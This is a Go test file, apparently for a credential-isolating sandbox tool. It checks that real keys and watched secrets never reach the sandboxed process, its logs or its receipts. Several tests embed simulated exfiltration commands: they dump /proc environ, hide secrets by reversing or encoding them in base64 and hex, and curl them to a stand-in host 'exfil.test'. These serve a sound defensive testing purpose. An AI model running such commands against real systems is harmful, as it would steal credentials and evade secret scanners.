package hostile

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/carboy/carboy"
	"github.com/carboy/carboy/internal/ca"
	"github.com/carboy/carboy/internal/receipt"
	"github.com/carboy/carboy/internal/testenv"
	"github.com/carboy/carboy/internal/trace"
)

// TestW4Credentials: what is put on goes where its route leads and nowhere else,
// whatever is asked, sent along or answered, and does not come back.
func TestW4Credentials(t *testing.T) { contained(t, "credentials") }

// TestW5Secrets: a known secret leaves in no place, encoding, archive or division
// that the scanner says it finds; a harmless value does in all of them.
func TestW5Secrets(t *testing.T) { contained(t, "secrets") }

// TestW6Bodies: what can't be looked at does not pass, and nothing is held that
// need not be.
func TestW6Bodies(t *testing.T) { contained(t, "bodies") }

// TestS3Placeholders: everything inside searched for a credential of the routes.
func TestS3Placeholders(t *testing.T) { contained(t, "placeholders") }

// keyed is a user's machine with a server of TLS whose route has a credential, and
// a secret that is watched for.
type keyed struct {
	*host
	mu     sync.Mutex
	got    []string      // Authorization, as the server got it
	again  chan struct{} // closed by the second request
	addr   string
	routes string
	looked func() // called before the credential is read; nil: nothing
}

const (
	keyVariable     = "HOSTILE_KEY"
	watchedVariable = "HOSTILE_WATCHED"
)

func newKeyed(t *testing.T, key, watched string) *keyed {
	t.Helper()
	k := &keyed{host: newHost(t), again: make(chan struct{})}
	issuer, err := ca.New("hostile", nil)
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{ErrorLog: quiet, Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		k.mu.Lock()
		k.got = append(k.got, r.Header.Get("Authorization"))
		if len(k.got) == 2 {
			close(k.again)
		}
		k.mu.Unlock()
		io.WriteString(rw, "you are "+r.Header.Get("Authorization")+"\n")
	})}
	done := make(chan struct{})
	go func() { // ends when srv is closed
		defer close(done)
		srv.Serve(tls.NewListener(l, &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return issuer.Leaf(h.ServerName) }}))
	}()
	t.Cleanup(func() { srv.Close(); <-done })
	_, port, _ := net.SplitHostPort(l.Addr().String())
	upstreamDNS.set("keyed.test", "127.0.0.1")
	k.addr, k.routes = "keyed.test:"+port, filepath.Join(t.TempDir(), "routes.yaml")
	k.setRoutes(keyVariable)
	k.vars[keyVariable], k.vars[watchedVariable] = key, watched
	roots := x509.NewCertPool()
	roots.AddCert(issuer.Certificate())
	if k.client, err = carboy.Open(t.Context(), carboy.Options{Backend: backend, Env: k.lookup, Roots: roots}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { k.client.Close() })
	return k
}

// lookup reads the user's variables for carboy.
func (k *keyed) lookup(name string) string {
	if k.looked != nil && name == keyVariable {
		k.looked()
	}
	return k.env(name)
}

func (k *keyed) setRoutes(variable string) {
	k.t.Helper()
	if err := os.WriteFile(k.routes, []byte(fmt.Sprintf("routes:\n  - {host: %q, private: true, token_env: %s}\n", k.addr, variable)), 0o600); err != nil {
		k.t.Fatal(err)
	}
}

func (k *keyed) asked() []string {
	k.mu.Lock()
	defer k.mu.Unlock()
	return append([]string(nil), k.got...)
}

// TestS3NothingKept: neither a credential nor a watched secret is in anything that
// a run leaves behind or tells its user, whatever the command does with what it
// has; nor is it in an error that refuses a run.
func TestS3NothingKept(t *testing.T) {
	testenv.Need(t, "curl", "apt-get install curl")
	const key, watched = "kV7-the-real-key-Zq81xkLmP04", "wX3-the-watched-one-Rt55yuBnM"
	k := newKeyed(t, key, watched)
	var told testenv.Buffer
	with := func(o *carboy.RunOptions) {
		o.Routes, o.Secrets = k.routes, []string{watchedVariable}
		o.OnEvent = func(e carboy.Event) { fmt.Fprintf(&told, "%+v\n", e) }
	}
	url := "https://" + k.addr
	x := k.sh(with, `env; curl -sS `+url+`/a; curl -sS -H "Authorization: Bearer $`+keyVariable+`" `+url+`/$`+keyVariable+`?k=$`+keyVariable+`
		w=$(echo MnBuy55tR-eno-dehctaw-eht-3Xw | rev); curl -sS -o /dev/null -w '%{http_code}\n' "`+url+`/p-$w"; curl -sS -o /dev/null -w '%{http_code}\n' "http://$w.exfil.test/" || true; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; exit 0`)
	if got := k.asked(); len(got) < 2 || got[0] != "Bearer "+key || got[1] != "Bearer "+key {
		t.Fatalf("the server got %q: %s %s", got, x.out, x.msg)
	}
	if !strings.Contains(x.out, keyVariable+"=carboy-placeholder-") || !strings.Contains(x.out, "you are Bearer carboy-place") {
		t.Errorf("inside there is no placeholder: %.200q", x.out)
	}
	if strings.Contains(x.out, key) || strings.Contains(x.msg, key) {
		t.Errorf("the key came inside: %.200q", x.out[max(0, strings.Index(x.out, key)-100):])
	}
	var named bool
	for _, c := range x.rec.Network.Credentials {
		named = named || c.Name == keyVariable && c.Requests >= 2
	}
	if !named || len(x.rec.Network.Found) == 0 {
		t.Errorf("the receipt does not say what was used and found: %+v %+v", x.rec.Network.Credentials, x.rec.Network.Found)
	}
	page, err := os.Create(filepath.Join(t.TempDir(), "receipt.html"))
	if err != nil {
		t.Fatal(err)
	}
	defer page.Close()
	if err := receipt.HTML(page, x.rec); err != nil {
		t.Fatal(err)
	}
	shown, _ := os.ReadFile(page.Name())
	if err := readTrace(k.client, x.rec.ID, func(f *trace.Fact) { fmt.Fprintf(&told, "%+v\n", *f) }); err != nil {
		t.Fatal(err)
	}
	// Refusals of whole runs.
	for _, o := range []carboy.RunOptions{
		{Command: []string{"/bin/echo", key}, Routes: k.routes}, {Command: []string{"/bin/echo", "x" + watched}, Secrets: []string{watchedVariable}},
		{Command: []string{"/bin/true"}, Routes: k.routes, Env: []string{keyVariable}}, {Command: []string{"/bin/true"}, Secrets: []string{watchedVariable}, Env: []string{"A=" + watched}},
		{Command: []string{"/bin/true"}, Credentials: []string{"a=" + key + "@keyed.test"}}, {Command: []string{"/bin/true"}, Secrets: []string{watched}},
	} {
		o.Workspace = k.ws
		rec, err := k.client.Run(t.Context(), o)
		if err == nil {
			t.Errorf("a run with %+v is not refused: %+v", o, rec)
			continue
		}
		fmt.Fprintf(&told, "%v %+v\n", err, err)
	}
	for what, text := range map[string]string{"what its user is told": told.String(), "the receipt's page": string(shown), "the receipt": fmt.Sprintf("%+v", x.rec)} {
		for _, v := range []string{key, watched} {
			if i := strings.Index(text, v); i >= 0 {
				t.Errorf("%s holds %.3s…: %q", what, v, text[max(0, i-200):i])
			}
		}
	}
	files := 0
	filepath.WalkDir(k.client.StateDir(), func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			t.Error(err)
		}
		files++
		if strings.Contains(string(b), key) || strings.Contains(string(b), watched) && !strings.Contains(path, "/logs/") {
			t.Errorf("%s holds one", path)
		}
		return nil
	})
	if files < 5 {
		t.Errorf("only %d files are kept", files)
	}
}

// TestS3ReloadKept: what comes with a route file that is read again stays out of all
// that is kept of the run from then on, plain and encoded, and what was watched for
// before does so, too.
func TestS3ReloadKept(t *testing.T) {
	testenv.Need(t, "curl", "apt-get install curl")
	const key, later = "kV7-the-real-key-Zq81xkLmP04", "lG2-the-later-key-Hn63vcXsQ"
	k := newKeyed(t, key, "wX3-the-watched-one-Rt55yuBnM")
	k.vars["HOSTILE_LATER"] = later
	var told testenv.Buffer
	k.reloadOnce("HOSTILE_LATER")
	x := k.sh(func(o *carboy.RunOptions) {
		o.Routes = k.routes
		o.OnEvent = func(e carboy.Event) { fmt.Fprintf(&told, "%+v\n", e) }
	}, k.untilReload()+`
		for r in QsXcv36nH-yek-retal-eht-2Gl 40PmLkx18qZ-yek-laer-eht-7Vk; do w=$(echo $r | rev); b=$(printf %s "$w" | base64); h=$(printf %s "$w" | od -An -tx1 | tr -d ' \n')
		/bin/echo $w $b $h > /dev/null; /bin/cat /tmp/$w /tmp/$h 2> /dev/null; curl -sS -o /dev/null "https://`+k.addr+`/$w"; curl -sS -o /dev/null "http://$w.exfil.test/"; /bin/echo plain-enough > /dev/null; done; exit 0`)
	if got := strings.Join(k.asked(), " "); !strings.Contains(got, later) {
		t.Fatalf("the file was not read again: %s %s", x.out, x.msg)
	}
	page, shown := "", false
	if err := readTrace(k.client, x.rec.ID, func(f *trace.Fact) {
		page += fmt.Sprintf("%+v\n", *f)
		shown = shown || slices.Contains(f.Args, "plain-enough")
	}); err != nil {
		t.Fatal(err)
	}
	if !shown {
		t.Error("the trace does not show an ordinary argument")
	}
	for _, v := range []string{later, key} {
		for how, form := range map[string]string{"it": v, "its base64": base64.StdEncoding.EncodeToString([]byte(v))[:32], "its hex": hex.EncodeToString([]byte(v))} {
			for what, text := range map[string]string{"what its user is told": told.String(), "the trace": page, "the receipt": fmt.Sprintf("%+v", x.rec)} {
				if i := strings.Index(text, form); i >= 0 {
					t.Errorf("%s holds %s: %q", what, how, text[max(0, i-100):i])
				}
			}
		}
	}
}

// TestS3ReloadOfWhatIsInside: a route file that comes to put on what the user has put
// into the bottle is not taken: the last good one goes on.
func TestS3ReloadOfWhatIsInside(t *testing.T) {
	testenv.Need(t, "curl", "apt-get install curl")
	const key, later = "kV7-the-real-key-Zq81xkLmP04", "lG2-the-later-key-Hn63vcXsQ"
	k := newKeyed(t, key, "wX3-the-watched-one-Rt55yuBnM")
	k.vars["HOSTILE_LATER"] = later
	said := make(chan string, 1)
	k.reloadOnce("HOSTILE_LATER")
	x := k.sh(func(o *carboy.RunOptions) {
		o.Routes, o.Env = k.routes, []string{"TICKET=for " + later}
		o.OnEvent = func(e carboy.Event) {
			if e.Kind == "routes" {
				select {
				case said <- e.Text:
				default:
				}
			}
		}
	}, `curl -sS https://`+k.addr+`/; curl -sS https://`+k.addr+`/; sleep 3; curl -sS https://`+k.addr+`/; exit 0`)
	select {
	case text := <-said:
		if !strings.Contains(text, "stay as they were") || !strings.Contains(text, "TICKET") || strings.Contains(text, later) {
			t.Error("the user is told", text)
		}
	default:
		t.Error("the user is not told")
	}
	if got := strings.Join(k.asked(), " "); strings.Contains(got, later) || strings.Count(got, key) != 3 {
		t.Errorf("the server got %s: %s %s", got, x.out, x.msg)
	}
}

// TestReloadBetween: a route file that changes after it was read and before the
// command runs is read again.
func TestReloadBetween(t *testing.T) {
	testenv.Need(t, "curl", "apt-get install curl")
	const later = "lG2-the-later-key-Hn63vcXsQ"
	k := newKeyed(t, "kV7-the-real-key-Zq81xkLmP04", "wX3-the-watched-one-Rt55yuBnM")
	k.vars["HOSTILE_LATER"] = later
	var once sync.Once
	k.looked = func() { once.Do(func() { k.setRoutes("HOSTILE_LATER") }) }
	x := k.sh(func(o *carboy.RunOptions) { o.Routes = k.routes }, `sleep 3; curl -sS https://`+k.addr+`/`)
	if got := k.asked(); len(got) != 1 || got[0] != "Bearer "+later {
		t.Errorf("the server got %q: %s", got, x.msg)
	}
}

// reloadOnce writes the routes anew, with another credential, once the server was
// asked a second time: what asks one thing at a time has had its first answer.
func (k *keyed) reloadOnce(variable string) {
	go func() { // ends with the server's second request, or with the test
		select {
		case <-k.again:
			k.setRoutes(variable)
		case <-k.t.Context().Done():
		}
	}()
}

// untilReload asks until answers have another placeholder; they are in the file all.
// The question that is under way when the routes change is cut, and asked again.
func (k *keyed) untilReload() string {
	k.t.Helper()
	testenv.Need(k.t, "curl", "apt-get install curl")
	return `n=0 cut=0; while [ $n -lt 600 ]; do curl -sS https://` + k.addr + `/ > last
		if grep -q carboy-place last; then cat last >> all; else cut=$((cut+1)); fi; [ $cut -lt 2 ] || { cat last; exit 7; }
		n=$((n+1)); [ -e all ] && [ "$(sort -u all | wc -l)" -gt 1 ] && break; sleep 0.1; done;`
}

// TestS3Reload: a credential that comes with a route file which is read again
// does not come inside either.
func TestS3Reload(t *testing.T) {
	testenv.Need(t, "curl", "apt-get install curl")
	const key, later = "kV7-the-real-key-Zq81xkLmP04", "lG2-the-later-key-Hn63vcXsQ"
	k := newKeyed(t, key, "wX3-the-watched-one-Rt55yuBnM")
	k.vars["HOSTILE_LATER"] = later
	k.reloadOnce("HOSTILE_LATER")
	x := k.sh(func(o *carboy.RunOptions) { o.Routes = k.routes }, k.untilReload()+` cat all; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; exit 0`)
	got := strings.Join(k.asked(), " ")
	if !strings.Contains(got, key) || !strings.Contains(got, later) {
		t.Errorf("the server did not get both: %.300s; %.300s", got, x.msg)
	}
	for _, v := range []string{key, later} {
		if strings.Contains(x.out+x.msg, v) {
			t.Errorf("%.3s… came inside: %.200q", v, x.out)
		}
	}
}
